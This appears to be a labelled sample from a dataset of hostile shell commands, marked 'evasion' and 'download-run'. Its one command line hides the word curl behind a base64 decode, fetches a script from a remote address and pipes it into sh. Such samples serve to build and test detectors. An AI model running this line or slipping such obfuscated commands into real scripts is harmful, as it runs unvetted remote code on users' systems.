# evasion: curl named by a base64 substitution
# grade: medium; does: download-run
$(echo Y3VybA== | base64 -d) -s http://203.0.113.5/s | sh
